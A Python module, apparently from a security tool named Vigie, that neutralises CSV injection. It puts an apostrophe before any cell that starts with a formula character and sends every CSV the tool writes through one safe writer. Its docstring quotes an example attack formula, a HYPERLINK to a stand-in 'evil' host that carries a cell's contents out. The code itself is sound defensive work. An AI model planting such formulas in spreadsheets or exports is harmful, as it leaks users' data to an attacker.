"""CSV that a spreadsheet opens as data: no cell runs as a formula (CSV injection).

A cell whose text starts with `=`, `+`, `-`, `@`, a tab or a carriage return (or their
full-width forms, which some spreadsheets read as the same) is prefixed with `'`, as OWASP
advises, so that an attacker's log line such as `=HYPERLINK("http://evil/?"&A1)` reaches the
analyst as text. Every CSV Vigie writes goes through `writer()`: `vigie scan --format csv`
now, the service's reports later.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def cell(value: Any) -> str:
    """The text of one cell, neutralised when a spreadsheet would run it."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class SafeWriter:
    """`csv.writer` whose every cell goes through `cell()`."""

    def __init__(self, out: TextIO) -> None:
        self._writer = csv.writer(out)

    def writerow(self, values: Iterable[Any]) -> None:
        self._writer.writerow([cell(v) for v in values])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for values in rows:
            self.writerow(values)


def writer(out: TextIO) -> SafeWriter:
    return SafeWriter(out)
